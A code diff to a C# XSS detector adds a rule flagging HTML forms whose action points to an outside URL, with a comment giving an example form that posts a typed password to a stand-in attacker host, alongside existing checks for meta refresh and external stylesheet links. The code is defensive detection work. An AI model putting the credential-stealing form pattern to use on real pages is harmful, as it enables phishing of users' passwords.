@@ -232,6 +232,11 @@ internal static class XssDetector
             {
                 sink.Add(RuleKey.XssDangerousTag, an, i - an);
             }
+            else if (name is "form" && attr is "action" && (value.StartsWith("http://") || value.StartsWith("https://") || value.StartsWith("//")))
+            {
+                // '<form action="https://attacker.tld/login">' posts what the user types (a password prompt) to another site.
+                sink.Add(RuleKey.XssDangerousTag, lt, i - lt);
+            }
             else if ((name is "meta" && attr is "http-equiv" && value.StartsWith("refresh"))
                 || (name is "link" && attr is "rel" && (value.Contains("stylesheet", StringComparison.Ordinal) || value.Contains("import", StringComparison.Ordinal)) && t[i..].Contains("href", StringComparison.Ordinal) && t[i..].Contains("//", StringComparison.Ordinal)))
             {
